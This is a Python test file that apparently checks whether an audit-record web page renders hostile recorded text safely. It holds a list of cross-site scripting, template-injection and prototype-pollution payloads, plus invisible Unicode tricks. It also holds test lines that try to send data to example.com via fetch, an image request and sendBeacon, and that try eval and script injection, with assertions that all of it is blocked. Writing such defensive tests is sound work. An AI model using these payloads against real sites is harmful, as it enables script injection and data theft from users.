# SPDX-License-Identifier: Apache-2.0
"""Nothing leaves the page, and nothing that was recorded can run in it or make it look like something else."""

from __future__ import annotations

import html
import json
from dataclasses import replace
from typing import Any

import pytest

from indelible.domain.anchors import AnchorFile
from indelible.page.parts import AnchoredCheckpoint, PageAnchor, PageParts
from indelible.page.render import render
from tests.page import samples
from tests.page.conftest import Opener
from tests.page.samples import EMPTY_CHAIN, Random, chain, parts_of

HOSTILE = [
    "</script><script>alert(1)</script>",
    "</template></pre><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "javascript:alert(1)",
    "${alert(1)} {{alert(1)}} {{records}} {{script}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "--><!--<![CDATA[",
    "\u202etxt.exe\u2066 \u200bhidden\ufeff",
    "line\nbreak\ttab\u0000nul\u001b[31mred",
    "constructor __proto__ toString",
    "x" * 60_000,
]


def hostile_parts() -> PageParts:
    """A chain whose every text is one of those, in every place that a caller can write to."""
    random, head, records = Random(1), EMPTY_CHAIN, []
    for number, text in enumerate(HOSTILE):
        short = text[:1000]
        event: dict[str, Any] = {
            "event_type": "X",
            "level": "decision",
            "actor": short,
            "action": short,
            "target": short,
            "trace_id": short[:250],
            "correlation_id": short[:250],
            "reason": text,
            "payload": {text[:2000]: [text, {"__proto__": {"polluted": text}}], "constructor": {"name": text[:99]}},
            "aow_context": {"outcome": short, "agent_urn": short},
            "regulatory": {
                "regulations": [short],
                "rule_citations": [short],
                "human_override": {"overridden": True, "operator": short, "reason": short},
            },
        }
        records.append(samples.sealed(event, head=head, now_ms=samples.START_MS + number, random=random))
        head = records[-1].head
    anchored = AnchoredCheckpoint(
        5, len(records), None, (PageAnchor(AnchorFile("token", "somebody"), HOSTILE[0].encode()),)
    )
    return replace(parts_of(records, sizes=[len(records)]), anchored=anchored)


def test_hostile_records_are_shown_as_text_and_verify(opens: Opener) -> None:
    name = json.dumps(html.escape(HOSTILE[0], quote=False)).encode()
    page = opens(render(hostile_parts()).replace(b'"name": "somebody"', b'"name": ' + name))
    assert HOSTILE[0] in page.text("#anchors")
    page.page.check("#group")
    page.page.uncheck("#group")
    for sequence in range(1, len(HOSTILE) + 1):
        page.page.fill("#goto", str(sequence))
        page.page.press("#goto", "Enter")
        page.page.wait_for_selector(f"#detail-heading:has-text('Record {sequence}')")
        shown = page.page.text_content("#detail .reason")
        assert shown is not None
        assert len(shown) >= len(HOSTILE[sequence - 1])

    assert page.verdict["valid"] is True
    assert page.dialogs == []
    assert page.complaints == []
    assert page.requests == []
    assert page.run("document.querySelectorAll('script').length") == 1
    assert page.run("document.querySelectorAll('img, iframe, svg, object, embed, [onerror], [onload]').length") == 0
    assert page.run("({}).polluted") is None


def test_characters_that_nobody_sees_are_made_visible(opens: Opener) -> None:
    page = opens(hostile_parts())
    page.page.fill("#goto", "9")
    page.page.press("#goto", "Enter")

    assert "⟨U+202E⟩txt.exe⟨U+2066⟩" in page.text("#detail")
    assert "\u202e" not in page.text("body")


def test_a_rotten_record_may_hold_values_of_any_type(opens: Opener) -> None:
    parts = parts_of(chain(3))
    values = [
        b'{"event":[],"timestamp":7}',
        b'{"event":{"actor":{"toString":1},"payload":null}}',
        b"[1]",
        b"null",
        b"\xff",
    ]
    broken = [replace(parts.records[0], data=data) for data in values]

    page = opens(replace(parts, records=broken))
    for number in range(len(values)):
        page.page.locator("#list .row.record").nth(number).click()
        assert page.text("#detail-heading") == "Record 1"

    assert page.complaints == []
    assert ("UNKNOWN_FORMAT", 1) in page.codes


def test_nothing_can_be_fetched_run_or_turned_into_html(opens: Opener) -> None:
    page = opens(parts_of(chain(10), sizes=[10]))
    assert page.requests == []
    assert page.complaints == []

    with pytest.raises(RuntimeError, match="Failed to fetch"):
        page.run("fetch('https://example.com/?stolen')")
    with pytest.raises(RuntimeError, match=r"(?i)eval|string"):
        page.run("eval('1 + 1')")
    with pytest.raises(RuntimeError, match="TrustedHTML"):
        page.run("document.body.innerHTML = '<b>x</b>'")
    with pytest.raises(RuntimeError, match="Trusted"):
        page.run("new Worker('data:text/javascript,1')")
    refused = page.run(
        """new Promise((resolve) => {
            const image = new Image();
            image.onerror = () => resolve('refused');
            image.onload = () => resolve('loaded');
            image.src = 'https://example.com/pixel.png';
        })"""
    )
    assert refused == "refused"
    added = page.run(
        """(() => {
            const script = document.createElement('script');
            try { script.text = 'globalThis.ran = true'; document.head.append(script); } catch (error) {}
            return globalThis.ran === true;
        })()"""
    )
    assert added is False
    assert page.run("navigator.sendBeacon('https://example.com/', 'x'); 1") == 1
    assert page.requests == [], "the policy stops all of it before it leaves"


def test_it_leaves_nothing_behind(opens: Opener) -> None:
    page = opens(parts_of(chain(10)))

    assert page.run("(() => { try { return localStorage.length } catch { return 0 } })()") == 0
    assert page.run("document.cookie") == ""
